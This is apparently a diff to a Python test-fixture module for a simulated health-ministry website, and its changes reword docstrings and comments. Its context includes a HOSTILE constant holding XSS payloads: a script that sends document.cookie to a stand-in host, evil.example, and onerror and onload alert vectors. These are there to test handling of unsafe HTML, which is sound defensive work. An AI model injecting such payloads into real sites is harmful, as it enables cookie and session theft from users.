@@ -1,4 +1,4 @@
-"""Articles of the simulated ministry site."""
+"""Articles of the simulated site of the health ministry."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ from html import unescape
 
 @dataclass(frozen=True)
 class Article:
-    """One article. With a `number` its address has the date, otherwise only the slug."""
+    """One article. The address of an article with a `number` contains the date, otherwise only the slug."""
 
     slug: str
     title: str
@@ -59,7 +59,7 @@ Suhu ruang penyimpanan obat di bawah 30 °C – “jangan” di dekat jendela.</
 """
 
 
-#: HTML that a hacked or careless site could serve inside an article.
+#: Dangerous HTML that a hacked or careless site could serve inside an article.
 HOSTILE = """
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <img src="x" onerror="alert(1)"><svg/onload=alert(2)><svg><script>alert(3)</script></svg>
